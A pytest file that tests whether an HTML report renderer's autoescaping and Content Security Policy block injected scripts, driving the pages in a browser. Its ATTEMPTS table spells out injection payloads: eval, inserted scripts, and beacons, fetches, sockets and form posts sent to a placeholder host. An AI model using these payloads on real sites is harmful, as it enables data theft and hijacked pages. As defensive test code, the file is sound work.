from __future__ import annotations

import json
import re
from select import select
from socket import socket

import pytest

from osiris_core.parity.exhibit.model import Exhibit
from osiris_core.parity.record import RecordSet
from osiris_core.report import html
from osiris_core.report.html import render_html, script_text
from tests.report.hostile import GROUPS, harmless, hostile_exhibit, hostile_set
from tests.report.samples import record

USE = """async (texts) => {
  const settled = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
  const quiet = async () => {
    for (let still = 0, had = -1; still < 9; had = document.getElementsByTagName("*").length) {
      await settled();
      still = had === document.getElementsByTagName("*").length ? still + 1 : 0;
    }
  };
  const all = (selector) => [...document.querySelectorAll(selector)];
  const unfold = async () => {
    for (let rounds = 9; rounds && all("details:not([open])").length; rounds -= 1) {
      for (const each of all("details:not([open])")) each.open = true;
      await settled();
    }
  };
  for (const field of all("input[type=search], input[type=text]")) {
    for (const text of [...texts, ""]) {
      field.value = text;
      field.dispatchEvent(new Event("input", { bubbles: true }));
    }
  }
  for (const text of [...texts, "%", "%00", "%ff", "show-all"]) {
    location.hash = text;
    await settled();
  }
  await unfold();
  await quiet();
  for (const each of all("button, [role=tab], [role=switch], input[type=radio], input[type=checkbox]")) each.click();
  for (const select of all("select")) {
    for (const option of select.options) {
      option.selected = true;
      select.dispatchEvent(new Event("change", { bubbles: true }));
    }
  }
  for (const key of ["j", "k", "n", "p", "o", "?", "Escape", "ArrowDown", "Home", "End", "/", "Escape"]) {
    (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
  }
  dispatchEvent(new Event("beforeprint"));
  dispatchEvent(new Event("afterprint"));
  await unfold();
  await quiet();
  return [...document.querySelectorAll("*")].map((each) => {
    const wide = each.classList.contains("scroll") ? ["aria-label", "role", "tabindex"] : []; // as a text's width needs it
    const state = ["hidden", "open", ...wide]; // as a search leaves it
    const names = [...each.attributes].map((attribute) => attribute.name).filter((name) => !state.includes(name)).sort();
    return `${each.namespaceURI.slice(-4)} ${each.localName} [${names}] ${each.getAttribute("class") ?? ""}`;
  });
}"""
"""Unfolds, clicks, types and follows everything that the page has; returns each element's kind, attributes and classes."""

ATTEMPTS = {
    "an event attribute": 'document.body.setAttribute("onclick", "window.taken = 1"); document.body.click();',
    "a style attribute": 'document.body.setAttribute("style", "color: red");',
    "markup from text": 'document.body.innerHTML += "<b>taken</b>";',
    "code from text": 'eval("window.taken = 1");',
    "code in a timer": 'setTimeout("window.taken = 1");',
    "a script": 'const s = document.createElement("script"); s.textContent = "window.taken = 1"; document.body.append(s);',
    "a script from elsewhere": 'const s = document.createElement("script"); s.src = "http://HOST/"; document.body.append(s);',
    "an image from elsewhere": 'new Image().src = "http://HOST/i.png";',
    "a request": 'fetch("http://HOST/").catch(() => {});',
    "a socket": 'new WebSocket("ws://HOST/");',
    "a beacon": 'navigator.sendBeacon("http://HOST/", "x");',
    "a frame": 'const f = document.createElement("iframe"); f.src = "http://HOST/"; document.body.append(f);',
    "a style sheet": 'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "http://HOST/"; document.head.append(l);',
    "a font": 'new FontFace("f", "url(http://HOST/f)").load().catch(() => {});',
    "a video": 'const v = document.createElement("video"); v.src = "http://HOST/v"; document.body.append(v);',
    "another base": 'const b = document.createElement("base"); b.href = "http://HOST/"; document.head.append(b);',
    "a form": 'const f = document.createElement("form"); f.action = "http://HOST/"; document.body.append(f); f.submit();',
}
"""What a script that had got into the page would try, by what it would take."""

TRY = """async (attempts) => {
  await new Promise((resolve) => setTimeout(resolve)); // what a debugger evaluates may use eval; what a page does later may not
  const refused = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    const told = new Promise((resolve) => {
      addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
      setTimeout(resolve, PATIENCE_MS, "nothing");
    });
    try { window.attempts[name](); } catch {}
    refused[name] = await told;
  }
  return [refused, window.taken ?? 0];
}"""


@pytest.fixture(scope="module")
def address(tmp_path_factory):
    """Return a function that writes a page and returns its address."""
    place = tmp_path_factory.mktemp("hostile")

    def write(name: str, page: str) -> str:
        path = place / f"{name}.html"
        path.write_text(page, "utf-8")
        return path.as_uri()

    return write


@pytest.fixture
def listener():
    """A server that waits for a request, and does not answer."""
    with socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        listening.setblocking(False)
        yield listening


def test_hostile_text_does_nothing_in_a_browser(opened, address):
    """With everything unfolded, clicked, searched and followed, a page full of hostile text has the elements of a harmless one.

    That it is silent, opens nothing and asks for nothing is watched besides.
    """
    hostile = opened(address("hostile", _whole_page(GROUPS)))
    tame = opened(address("tame", _whole_page([*map(harmless, GROUPS)])))
    assert hostile.title() == "None of 2 manifests behaves the same; 2 diverge — parity report"
    seen, expected = hostile.evaluate(USE, GROUPS), tame.evaluate(USE, ["ŋ"])
    assert len(seen) == len(expected)
    assert [pair for pair in zip(seen, expected, strict=True) if pair[0] != pair[1]] == []
    assert hostile.evaluate("document.documentElement.outerHTML.match(/<!--/)") is None
    assert hostile.title() == "None of 2 manifests behaves the same; 2 diverge — parity report"


def test_without_autoescape_a_browser_would_tell(opened, watch, address, monkeypatch):
    """The check above is able to fail: where one layer is missing, there are other elements, and the policy speaks; without it, too, there are dialogs."""
    unsafe = html._environment().overlay(autoescape=False, bytecode_cache=None)  # kept ones escape
    monkeypatch.setattr(html, "_environment", lambda: unsafe)
    broken = render_html(RecordSet(records=(record("<script>window.taken = 1</script>", None),)))
    page = opened(address("broken", broken))
    assert page.locator("script").count() > 1
    assert page.evaluate("window.taken") is None
    assert [each for each in watch.console if "Content Security Policy" in each]
    page.goto(address("naked", _without_policy(broken)))
    assert page.evaluate("window.taken") == 1
    watch.console.clear()
    assert watch.requests == [page.url]  # the second address, which the test asked for
    watch.requests.clear()


def test_a_dialog_and_a_window_would_be_seen(opened, watch, address):
    """What is watched on every page is noticed when it happens."""
    page = opened(address("acts", "<!DOCTYPE html><title>acts</title>"))
    page.evaluate("alert(1)")
    with page.expect_popup():
        page.evaluate("window.open('about:blank')")
    assert watch.acts == ["dialog 1", "window about:blank"]
    watch.acts.clear()


def test_what_a_script_could_try_is_refused(opened, watch, address, listener, monkeypatch):
    """Were our own script led astray, it could make no markup, run no text, and ask for nothing."""
    page = opened(address("led-astray", _page_with(_attempts(listener), monkeypatch)))
    refused, taken = page.evaluate(
        TRY.replace("PATIENCE_MS", "30000"), ATTEMPTS
    )  # a refused form is told when the browser comes to it
    assert refused == {
        "an event attribute": "require-trusted-types-for",
        "a style attribute": "style-src-attr",
        "markup from text": "require-trusted-types-for",
        "code from text": "require-trusted-types-for",
        "code in a timer": "require-trusted-types-for",
        "a script": "require-trusted-types-for",
        "a script from elsewhere": "require-trusted-types-for",
        "an image from elsewhere": "img-src",
        "a request": "connect-src",
        "a socket": "connect-src",
        "a beacon": "connect-src",
        "a frame": "frame-src",
        "a style sheet": "style-src-elem",
        "a font": "font-src",
        "a video": "media-src",
        "another base": "base-uri",
        "a form": "form-action",
    }
    assert taken == 0
    assert _sent_to(listener) == b""  # a browser may connect ahead of time; it sent nothing
    watch.console.clear()
    watch.requests.clear()


def test_without_the_policy_it_would_succeed(opened, watch, address, listener, monkeypatch):
    """The check above is able to fail: without the policy the same script takes what it wants."""
    page = opened(address("unguarded", _without_policy(_page_with(_attempts(listener), monkeypatch))))
    names = ("an event attribute", "code from text", "an image from elsewhere")
    refused, taken = page.evaluate(TRY.replace("PATIENCE_MS", "10"), {name: ATTEMPTS[name] for name in names})
    assert set(refused.values()) == {"nothing"}
    assert taken == 1
    listener.settimeout(10)
    connection, _ = listener.accept()
    with connection:
        connection.settimeout(10)
        assert connection.recv(100).startswith(b"GET /i.png ")
        page.close()
    watch.requests.clear()
    watch.console.clear()


def _whole_page(texts: list[str]) -> str:
    """Return a page of records full of these texts, the first of them with the lines of its sessions, full of them all."""

    def read(record, _):
        return hostile_exhibit(texts) if record.manifest.startswith("0 ") else Exhibit(targets=("a", "b"))

    return render_html(hostile_set(texts), json_name="parity.json", read=read)


def _sent_to(listener: socket) -> bytes:
    """Return what everybody who connected so far has sent."""
    sent = b""
    while True:
        try:
            connection, _ = listener.accept()
            with connection:
                connection.setblocking(False)
                sent += connection.recv(100)
        except BlockingIOError:
            if not select([listener], [], [], 0)[0]:
                return sent


def _attempts(listener: socket) -> str:
    """Return a script that offers the attempts as functions."""
    host = f"127.0.0.1:{listener.getsockname()[1]}"
    functions = [f"{json.dumps(name)}: () => {{ {attempt} }}" for name, attempt in ATTEMPTS.items()]
    return f"window.attempts = {{ {', '.join(functions)} }};".replace("HOST", host)


def _page_with(more: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """Return a page whose own script, which the policy allows, has something more in it."""
    script = script_text() + more
    monkeypatch.setattr(html, "script_text", lambda: script)
    return render_html(RecordSet(records=(record("a", None),)))


def _without_policy(page: str) -> str:
    without, found = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert found == 1
    return without
